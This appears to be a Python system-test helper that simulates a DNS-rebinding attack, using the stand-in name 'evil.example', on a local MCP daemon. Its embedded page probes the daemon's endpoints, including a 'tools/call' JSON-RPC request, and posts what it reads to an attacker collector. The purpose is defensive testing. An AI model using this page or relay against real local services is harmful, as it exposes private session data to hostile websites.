"""
A hostile web page in a real browser: what it tries on the daemon, and what it got to see.

A rebinding attack ends with the browser sending requests for a foreign name to this machine. The relay here
is that name's server: it hands out the page and takes everything else to the daemon, byte for byte.
"""

from __future__ import annotations

import contextlib
import json
import queue
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from typing import Any

from tests.system.web_app import QuietHandler, serving
from tests.system.wire import WAIT_SECONDS

FOREIGN = "evil.example"
RESOLVER_FLAG = f"--host-resolver-rules=MAP {FOREIGN} 127.0.0.1"
"""What makes Chromium find the foreign name on this machine, as after a rebinding."""

PATHS = (
    "/",
    "/mcp",
    "/mcp/",
    "/mcp/sse",
    "/mcp/message?sessionId=x",
    "/mcp/messages?session_id=x",
    "/status",
    "/metrics",
    "/sdk.js",
    "/ui/",
    "/ingest",
    "/v1/traces",
    "/v1/logs",
    "/reticle",
    "/register",
    "/.well-known/oauth-protected-resource",
    "/healthz",
    "/readyz",
)
PUBLIC = frozenset({"/healthz", "/readyz"})
"""Answered for everybody, with no details (DESIGN §3)."""

_PAGE = """<!doctype html><title>nothing to see</title><script>
const CALL = JSON.stringify({jsonrpc: "2.0", id: 1, method: "tools/call",
  params: {name: "reticle_sessions", arguments: {}}});
const KINDS = {
  get: {method: "GET"},
  "json post": {method: "POST", body: CALL, headers: {"Content-Type": "application/json",
    Accept: "application/json, text/event-stream"}},
  "plain post": {method: "POST", body: CALL, headers: {"Content-Type": "text/plain"}},
  "no-cors post": {method: "POST", body: CALL, mode: "no-cors", headers: {"Content-Type": "text/plain"}},
  "no-cors get": {method: "GET", mode: "no-cors", referrerPolicy: "no-referrer"},
  delete: {method: "DELETE"},
};
async function tried(path, kind) {
  const stop = new AbortController();
  const timer = setTimeout(() => stop.abort(), 4000);
  try {
    const answer = await fetch(BASE + path, {...KINDS[kind], signal: stop.signal, cache: "no-store"});
    const stream = (answer.headers.get("content-type") || "").startsWith("text/event-stream");
    const text = stream ? "a stream" : (await answer.text()).slice(0, 2000);
    return {path, kind, status: answer.status, text};
  } catch (error) {
    return {path, kind, status: 0, text: ""};
  } finally {
    clearTimeout(timer);
    stop.abort();
  }
}
function socket(path) {
  return new Promise((resolve) => {
    const link = new WebSocket(BASE.replace("http", "ws") + path);
    link.onopen = () => { link.close(); resolve({path, kind: "websocket", status: 101, text: "open"}); };
    link.onerror = () => resolve({path, kind: "websocket", status: 0, text: ""});
  });
}
function loaded(tag, path, policy) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    if (policy) element.referrerPolicy = policy;
    element.onload = () => resolve({path, kind: tag, status: 200, text: "loaded"});
    element.onerror = () => resolve({path, kind: tag, status: 0, text: ""});
    element.src = BASE + path;
    document.body.append(element);
  });
}
async function attack() {
  const jobs = PATHS.flatMap((path) => Object.keys(KINDS).map((kind) => () => tried(path, kind)));
  jobs.push(() => socket("/reticle"), () => socket("/mcp"), () => loaded("script", "/sdk.js"),
    () => loaded("img", "/status"));
  const results = [];
  const worker = async () => { while (jobs.length) results.push(await jobs.shift()()); };
  await Promise.all([1, 2, 3, 4].map(worker));
  await fetch(COLLECTOR, {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
}
window.onload = attack;
</script><body>"""


class Hostile:
    """
    A page for one attack.

    Args:
        collector: Where the page tells what it saw.
        got: What it told.
    """

    def __init__(self, collector: str, got: queue.Queue[list[dict[str, Any]]]) -> None:
        self._collector = collector
        self._got = got

    def page(self, base: str) -> bytes:
        """
        The page that attacks this address; an empty one is where it came from itself.
        """
        given = {
            "BASE": base,
            "PATHS": PATHS,
            "COLLECTOR": self._collector,
        }
        words = "".join(f"const {name} = {json.dumps(value)};\n" for name, value in given.items())
        words = words.replace('const BASE = "";', "const BASE = location.origin;")
        return _PAGE.replace("<script>\n", f"<script>\n{words}", 1).encode()

    def results(self, seconds: float = 60.0) -> list[dict[str, Any]]:
        """
        Everything that was tried, each with ``path``, ``kind``, the ``status`` that the page could see (0:
        none) and the ``text`` that it could read.
        """
        return self._got.get(timeout=seconds)


@contextmanager
def hostile() -> Iterator[Hostile]:
    """
    The attacker's collector of results.
    """
    got: queue.Queue[list[dict[str, Any]]] = queue.Queue()

    class Collector(QuietHandler):
        """
        Takes what the page saw.
        """

        def do_POST(self) -> None:
            """
            Keep it.
            """
            told = self.rfile.read(int(self.headers["Content-Length"]))
            self.answer(200, "text/plain", b"")
            got.put(json.loads(told))

    with serving(Collector) as collector:
        yield Hostile(collector, got)


@contextmanager
def page_server(page: bytes, host: str) -> Iterator[str]:
    """
    An ordinary server of the page, under that name.
    """

    class Server(QuietHandler):
        """
        Hands out the page.
        """

        def do_GET(self) -> None:
            """
            The page, whatever was asked for.
            """
            self.answer(200, "text/html", page)

    with serving(Server, host) as url:
        yield url


@contextmanager
def rebound_server(page: bytes, port: int, host: str) -> Iterator[str]:
    """
    A server whose name is bound to the daemon: ``/attack`` is the page, all else goes to the daemon's port.
    """
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {len(page)}\r\n"
    answer = f"{head}Connection: close\r\n\r\n".encode() + page

    def serve(browser: socket.socket) -> None:
        with browser, contextlib.suppress(OSError):
            browser.settimeout(WAIT_SECONDS)
            if browser.recv(12, socket.MSG_PEEK).startswith(b"GET /attack"):
                browser.recv(65_536)
                browser.sendall(answer)
                return
            with socket.create_connection(("127.0.0.1", port), WAIT_SECONDS) as daemon:
                back = threading.Thread(target=_copy, args=(daemon, browser), daemon=True)
                back.start()
                _copy(browser, daemon)
                back.join(WAIT_SECONDS)

    with listening(serve) as own_port:
        yield f"http://{host}:{own_port}/attack"


@contextmanager
def listening(serve: Callable[[socket.socket], None]) -> Iterator[int]:
    """
    Take connections on a free port of 127.0.0.1, each in a thread of its own.
    """
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def accept() -> None:
            while True:
                try:
                    browser, _ = listener.accept()
                except OSError:
                    return
                threading.Thread(target=serve, args=(browser,), daemon=True).start()

        threading.Thread(target=accept, daemon=True).start()
        yield listener.getsockname()[1]
        listener.shutdown(socket.SHUT_RDWR)


def _copy(source: socket.socket, target: socket.socket) -> None:
    with contextlib.suppress(OSError):
        while chunk := source.recv(65_536):
            target.sendall(chunk)
    with contextlib.suppress(OSError):
        target.shutdown(socket.SHUT_WR)
